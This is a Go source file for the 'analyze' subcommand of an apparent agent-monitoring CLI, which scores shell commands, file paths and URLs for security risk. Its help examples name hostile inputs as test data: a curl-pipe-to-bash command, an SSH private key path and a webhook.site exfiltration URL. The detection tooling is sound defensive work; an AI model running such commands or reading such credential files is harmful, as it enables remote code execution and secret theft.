package cli

import (
	"encoding/json"
	"fmt"
	"io"
	"strings"

	"github.com/spf13/cobra"

	"github.com/OpenClaudeAgent/opencode-monitor/internal/extract"
	"github.com/OpenClaudeAgent/opencode-monitor/internal/risk"
	"github.com/OpenClaudeAgent/opencode-monitor/internal/scope"
)

var (
	analyzeJSON  bool
	analyzeWrite bool
	analyzeRoot  string
	analyzeTool  string
)

var analyzeCmd = &cobra.Command{
	Use:   "analyze",
	Short: "Score a single command, file path or URL",
	Long: `Score a single agent action without recording it.

Examples:
  opencode-monitor analyze command "curl https://x.sh | bash"
  opencode-monitor analyze path ~/.ssh/id_rsa
  opencode-monitor analyze path --write --root . /etc/hosts
  opencode-monitor analyze url https://webhook.site/abc --json`,
}

var analyzeCommandCmd = &cobra.Command{
	Use:   "command <command>...",
	Short: "Score a shell command",
	Args:  cobra.MinimumNArgs(1),
	RunE:  analyzeCommand,
}

var analyzePathCmd = &cobra.Command{
	Use:   "path <path>",
	Short: "Score a file path, with scope analysis when a project root is known",
	Args:  cobra.ExactArgs(1),
	RunE:  analyzePath,
}

var analyzeURLCmd = &cobra.Command{
	Use:   "url <url>",
	Short: "Score a URL",
	Args:  cobra.ExactArgs(1),
	RunE:  analyzeURL,
}

func init() {
	analyzeCmd.PersistentFlags().BoolVar(&analyzeJSON, "json", false, "Print the result as JSON")
	analyzeCommandCmd.Flags().StringVar(&analyzeTool, "tool", "bash", "Tool name recorded on the alert")
	analyzePathCmd.Flags().BoolVar(&analyzeWrite, "write", false, "Score the path as a write")
	analyzePathCmd.Flags().StringVar(&analyzeRoot, "root", "", "Project root for scope analysis (default: project_root in config)")
	analyzeCmd.AddCommand(analyzeCommandCmd)
	analyzeCmd.AddCommand(analyzePathCmd)
	analyzeCmd.AddCommand(analyzeURLCmd)
	rootCmd.AddCommand(analyzeCmd)
}

type commandReport struct {
	risk.SecurityAlert
	Paths []string `json:"paths,omitempty"`
}

type pathReport struct {
	Path  string          `json:"path"`
	Write bool            `json:"write"`
	Risk  risk.RiskResult `json:"risk"`
	Scope *scope.Result   `json:"scope,omitempty"`
}

func analyzeCommand(cmd *cobra.Command, args []string) error {
	eng, err := loadEngine()
	if err != nil {
		return err
	}
	command := strings.Join(args, " ")
	report := commandReport{
		SecurityAlert: risk.NewCommandScorer(eng.patterns).AnalyzeCommand(command, analyzeTool),
		Paths:         extract.NewPathExtractor().ExtractFromCommand(command),
	}

	out := cmd.OutOrStdout()
	if analyzeJSON {
		return printJSON(out, report)
	}
	fmt.Fprintf(out, "%s %s\n", levelIcon(out, report.Level), command)
	fmt.Fprintf(out, "     Score: %d (%s) %s\n", report.Score, report.Level, report.Reason)
	if len(report.Paths) > 0 {
		fmt.Fprintf(out, "     Paths: %s\n", strings.Join(report.Paths, ", "))
	}
	return nil
}

func analyzePath(cmd *cobra.Command, args []string) error {
	eng, err := loadEngine()
	if err != nil {
		return err
	}
	path := args[0]
	report := pathReport{
		Path:  path,
		Write: analyzeWrite,
		Risk:  risk.NewPathScorer(eng.patterns).AnalyzeFilePath(path, analyzeWrite),
	}
	if d := eng.detector(analyzeRoot); d != nil {
		op := scope.OpRead
		if analyzeWrite {
			op = scope.OpWrite
		}
		res := d.Detect(path, op)
		report.Scope = &res
	}

	out := cmd.OutOrStdout()
	if analyzeJSON {
		return printJSON(out, report)
	}
	fmt.Fprintf(out, "%s %s\n", levelIcon(out, report.Risk.Level), path)
	fmt.Fprintf(out, "     Score: %d (%s) %s\n", report.Risk.Score, report.Risk.Level, report.Risk.Reason)
	if report.Scope != nil {
		printScope(out, report.Scope)
	}
	return nil
}

func analyzeURL(cmd *cobra.Command, args []string) error {
	eng, err := loadEngine()
	if err != nil {
		return err
	}
	result := risk.NewPathScorer(eng.patterns).AnalyzeURL(args[0])

	out := cmd.OutOrStdout()
	if analyzeJSON {
		return printJSON(out, result)
	}
	fmt.Fprintf(out, "%s %s\n", levelIcon(out, result.Level), args[0])
	fmt.Fprintf(out, "     Score: %d (%s) %s\n", result.Score, result.Level, result.Reason)
	return nil
}

func printScope(out io.Writer, r *scope.Result) {
	fmt.Fprintf(out, "     Scope: %s (+%d) %s\n", r.Verdict, r.ScoreModifier, r.Reason)
	if r.ResolvedPath != r.Path {
		fmt.Fprintf(out, "     Resolved: %s\n", r.ResolvedPath)
	}
}

func printJSON(out io.Writer, v any) error {
	enc := json.NewEncoder(out)
	enc.SetIndent("", "  ")
	return enc.Encode(v)
}
